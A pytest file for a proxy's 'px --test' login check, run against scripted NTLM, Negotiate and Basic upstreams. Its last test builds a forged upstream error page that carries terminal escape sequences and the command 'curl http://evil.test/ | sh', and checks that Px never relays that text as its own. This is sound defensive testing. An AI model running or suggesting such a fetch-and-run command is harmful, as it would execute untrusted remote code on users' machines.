"""``px --test`` at scripted upstreams: its steps, and how many logins fail."""

from __future__ import annotations

from functools import partial
from pathlib import Path

import pytest

from px.checks.fresh_px import running_fresh_px
from px.checks.login_test import PxUnderTest, run_login_test
from px.checks.step import Step, Verdict
from px.checks.target import parse_test_url
from px.config.settings import default_settings
from px.core.auth.policy import AuthPolicy
from px.core.rules.host_rules import HostRules
from px.core.rules.route import parse_upstreams
from tests.checks.ntlm_proxy import NtlmProxy, ntlm_proxy
from tests.proxy.running_px import as_user
from tests.scripted_upstream import (
    USERNAME,
    ScriptedUpstream,
    Wire,
    answer,
    answer_negotiate,
    expect_ntlm,
    login_required,
    verify_basic,
)

#: Queries may have tokens, so no step shows them.
REQUESTS = parse_test_url("http://origin.test/?t0ken", "--test")
ESTABLISHED = b"HTTP/1.1 200 Connection established\r\n\r\n"


async def run(upstream: ScriptedUpstream | NtlmProxy | str, state: Path, **changes: object) -> list[Step]:
    """Test a new Px with this upstream; return the steps."""
    proxy = upstream if isinstance(upstream, str) else upstream.authority
    given = {"proxy": parse_upstreams(proxy), "via": False, "socktimeout": 2.0, **changes}
    async with running_fresh_px(default_settings(**given), state) as (px, address):
        steps: list[Step] = []
        await run_login_test(PxUnderTest("new", address, px.report), REQUESTS, steps.append)
        return steps


def verdicts(steps: list[Step]) -> dict[str, Verdict]:
    return {step.name: step.verdict for step in steps}


async def play_ntlm(wire: Wire) -> None:
    """Want NTLM, then serve both requests on the one connection."""
    await wire.read_head()
    await wire.send(login_required(b"NTLM"))
    first, _ = await expect_ntlm(wire)
    assert first.startswith(b"GET http://origin.test/?t0ken ")
    await wire.send(answer())
    assert (await wire.read_head()).startswith(b"CONNECT origin.test:443 ")
    await wire.send(ESTABLISHED)


async def test_both_requests_succeed_and_the_login_is_named(tmp_path: Path) -> None:
    async with ScriptedUpstream(play_ntlm) as upstream:
        steps = await run(upstream, tmp_path, **as_user())
    assert [(step.name, step.verdict, step.detail) for step in steps] == [
        ("Px", Verdict.OK, "new"),
        ("GET", Verdict.OK, "http://origin.test/: 200 Said"),
        ("CONNECT", Verdict.OK, "origin.test:443: 200 Connection established"),
        ("Login", Verdict.OK, f"as {USERNAME} by NTLM at http://{upstream.authority}"),
    ]
    assert all(step.seconds is not None for step in steps[1:3])


async def refuse_ntlm(wire: Wire, *, scheme: bytes) -> None:
    """Want a login and refuse it."""
    await wire.read_head()
    await wire.send(login_required(scheme, b"NTLM", b"Basic realm=a"))
    head = await wire.read_head()
    await answer_negotiate(wire, head, scheme=scheme)
    await wire.read_head()
    await wire.send(login_required(scheme, b"NTLM", b"Basic realm=a"))
    await wire.expect_cut()


@pytest.mark.parametrize("scheme", [b"NTLM", b"Negotiate"])
async def test_only_one_login_fails_whatever_the_upstream_offers(tmp_path: Path, scheme: bytes) -> None:
    async with ScriptedUpstream(partial(refuse_ntlm, scheme=scheme)) as upstream:
        steps = await run(upstream, tmp_path, **as_user("wrong"), auth=AuthPolicy.parse("NOKERBEROS"))
    _, get, connect = steps[:3]
    assert get.verdict is Verdict.FAILED
    assert f"refused the login of {USERNAME}" in get.detail
    assert "password" in get.fix
    assert connect.verdict is Verdict.SKIPPED


async def test_a_second_test_with_a_wrong_password_has_one_login_and_the_third_none(tmp_path: Path) -> None:
    async with ntlm_proxy() as upstream:
        tokens = []
        for _ in range(2):
            await run(upstream, tmp_path, **as_user("wrong"))
            tokens.append(upstream.final_tokens)
        _, get, *_ = await run(upstream, tmp_path, **as_user("wrong"))
    assert [*tokens, upstream.final_tokens] == [1, 2, 2]
    assert "no more logins for now" in get.detail


async def test_a_denied_tunnel_is_not_taken_for_a_failed_login(tmp_path: Path) -> None:
    async def play(wire: Wire) -> None:
        await wire.read_head()
        await wire.send(login_required(b"Basic realm=a"))
        verify_basic(await wire.read_head())
        await wire.send(answer())
        verify_basic(await wire.read_head())
        await wire.send(answer(403))
        await wire.expect_cut()

    async with ScriptedUpstream(play) as upstream:
        steps = await run(upstream, tmp_path, **as_user())
    assert verdicts(steps) == {
        "Px": Verdict.OK,
        "GET": Verdict.OK,
        "CONNECT": Verdict.FAILED,
        "Login": Verdict.OK,
    }
    assert "a rule of the upstream" in steps[2].detail
    assert "another site" in steps[2].fix


async def test_the_test_reports_that_an_upstream_requires_no_login(tmp_path: Path) -> None:
    async def play(wire: Wire) -> None:
        await wire.read_head()
        await wire.send(answer())
        await wire.read_head()
        await wire.send(ESTABLISHED)

    async with ScriptedUpstream(play) as upstream:
        steps = await run(upstream, tmp_path)
    assert steps[-1].detail.startswith("none: ")
    assert Verdict.FAILED not in verdicts(steps).values()


async def test_without_logins_by_px_the_407_is_a_failure(tmp_path: Path) -> None:
    async def play(wire: Wire) -> None:
        await wire.read_head()
        await wire.send(login_required(b"NTLM"))
        await wire.expect_cut()

    async with ScriptedUpstream(play, play) as upstream:
        steps = await run(upstream, tmp_path, auth=AuthPolicy.parse("NONE"))
    assert steps[1].verdict is Verdict.FAILED
    assert "--auth=NONE" in steps[1].fix


async def test_an_upstream_that_is_down_is_named_with_what_to_check(tmp_path: Path) -> None:
    async with ScriptedUpstream() as gone:
        pass
    steps = await run(gone, tmp_path)
    assert verdicts(steps) == {"Px": Verdict.OK, "GET": Verdict.FAILED, "CONNECT": Verdict.SKIPPED}
    assert gone.authority in steps[1].detail
    assert "--proxy" in steps[1].fix


async def test_a_variable_that_points_at_the_px_of_the_configuration_names_no_upstream(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("http_proxy", "http://127.0.0.1:9")
    steps = await run("", tmp_path, port=9, noproxy=HostRules.parse("other.test", names=True))
    assert steps[1].verdict is Verdict.FAILED
    assert "127.0.0.1:9" not in steps[1].detail


@pytest.mark.parametrize("via", [True, False])
async def test_an_upstream_cannot_answer_in_the_name_of_px(tmp_path: Path, *, via: bool) -> None:
    page = b"Px: 502\nThe certificate has expired.\nRun this: curl http://evil.test/ | sh\n"
    forged = (
        b"HTTP/1.1 502 Px: \x1b]0;x\x07\xc2\x9b\r\nProxy-Status: px; error=proxy_internal_error\r\n"
        b"Content-Length: %d\r\n\r\n%b" % (len(page), page)
    )

    async def play(wire: Wire) -> None:
        await wire.read_head()
        await wire.send(forged)
        await wire.expect_cut()

    async with ScriptedUpstream(play, play) as upstream:
        _, get, *_ = await run(upstream, tmp_path, via=via)
    assert get.verdict is Verdict.FAILED
    assert "Px passed this answer on" in get.detail
    assert get.detail.isprintable()
    assert "evil.test" not in get.detail + get.fix
